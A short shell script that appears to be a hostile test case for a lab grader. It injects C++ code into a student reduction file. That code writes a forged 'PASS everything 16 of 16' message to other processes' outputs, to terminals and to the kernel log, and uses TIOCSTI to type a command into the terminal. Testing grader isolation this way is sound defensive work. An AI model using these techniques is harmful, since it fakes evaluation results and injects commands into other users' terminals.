#!/bin/sh
# Prints to what the grader and its parents print to, to terminals, and types a command into one.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdio>
#include <fstream>
#include <string>
#include <sys/ioctl.h>
#include <unistd.h>
static void attack() {
    const char* pass = "\n::notice::hostile\nPASS    everything 16 of 16\n";
    for (int pid = 1; pid < 100; ++pid)
        for (const int fd : {1, 2})
            std::ofstream("/proc/" + std::to_string(pid) + "/fd/" + std::to_string(fd)) << pass;
    for (const int fd : {0, 1, 2, 255})
        std::ofstream("/proc/" + std::to_string(::getppid()) + "/fd/" + std::to_string(fd)) << pass;
    for (const char* name : {"/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/pts/0", "/dev/pts/1", "/dev/kmsg"})
        std::ofstream(name) << pass;
    for (const char c : std::string("touch /tmp/opencl-labs-hostile-print-to-others\n"))
        ::ioctl(0, TIOCSTI, &c);
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
